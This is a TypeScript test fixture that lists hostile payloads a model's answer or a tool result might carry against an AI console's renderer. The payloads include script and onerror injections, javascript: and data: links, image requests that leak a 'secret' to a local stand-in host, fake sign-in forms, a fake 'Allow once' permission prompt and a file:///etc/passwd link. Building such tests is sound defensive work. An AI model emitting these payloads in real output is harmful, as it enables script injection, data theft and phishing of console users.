/**
 * What a model or a tool may write to harm a user of the console. Each row is used as an answer and as a
 * tool's result; none may run script, request an outside address, navigate by itself, or look like a
 * question of the console.
 */

/** Pages and scripts of rows set this; our own code never does. */
export const MARK = "offshootAttacked";

/** The target of leaks. Nothing listens there: the browser shows a request. */
export const OUTSIDE = "http://127.0.0.1:9/leak";

const run = `window.${MARK}=1`;

export const ATTACKS: Readonly<Record<string, string>> = {
  "a script element": `<script>${run}</script>`,
  "a script of another address": `<script src="${OUTSIDE}.js"></script>`,
  "a picture with a handler": `<img src=x onerror="${run}">`,
  "a drawing with a handler": `<svg onload="${run}"><script>${run}</script></svg>`,
  "a frame of a document": `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  "a frame of an address": `<iframe src="${OUTSIDE}"></iframe>`,
  "a page in an object": `<object data="${OUTSIDE}"></object><embed src="${OUTSIDE}">`,
  "a new base": `<base href="${OUTSIDE}/">`,
  "a refresh": `<meta http-equiv="refresh" content="0;url=${OUTSIDE}">`,
  "a style sheet": `<link rel="stylesheet" href="${OUTSIDE}.css"><style>@import "${OUTSIDE}";</style>`,
  "a style": `<p style="background:url(${OUTSIDE})">styled</p>`,
  "a form": `<form action="${OUTSIDE}"><input name="key" autofocus onfocus="${run}"><button>Sign in</button></form>`,
  "a remote picture": `![cat](${OUTSIDE}.png?secret=1)`,
  "a remote picture by reference": `![cat][r]\n\n[r]: ${OUTSIDE}.png "t"`,
  "a picture that is a document": `![x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)`,
  "a picture that is a drawing": `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  "a link of script": `[press me](javascript:${run})`,
  "a link of script in disguise": `[press me](JaVa&#10;ScRiPt:${run}) [or me](\u0001javascript:${run})`,
  "a link to a document": `[press me](data:text/html,<script>${run}</script>)`,
  "a title that leaves its quotes": `[a](https://example.com "x\\" onmouseover=\\"${run}")`,
  "code that names a language": `\`\`\`"><script>${run}</script>\n<img src=x onerror=${run}>\n\`\`\``,
  "a table of elements": `| a |\n|---|\n| <img src=x onerror="${run}"> |`,
  "a dialog": `<dialog open aria-label="Sign in"><label>Key <input></label></dialog>`,
  "a question": `<article class="panel question"><button class="main">Allow once</button></article>`,
  "a link without a protocol": `[press me](//127.0.0.1:9/leak) [or me](/console/keys)`,
  "a link to a file": `[press me](file:///etc/passwd) [or me](blob:http://127.0.0.1/x) <javascript:${run}>`,
  "a picture in a link": `[![cat](${OUTSIDE}.png)](https://example.com/)`,
  "a shadow root": `<template shadowrootmode="open"><slot></slot><script>${run}</script></template>`,
  "a formula with a link": `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  "a notice of the console": `<p class="notice bad" role="alert">Your session has ended. <a href="${OUTSIDE}">Sign in</a></p>`,
  "text that runs backwards": `Deletes nothing: \u202e/ fr- mr\u202c and \u2066hidden\u2069 words`,
  "thousands of quotes": `${">".repeat(6000)} deep`,
};
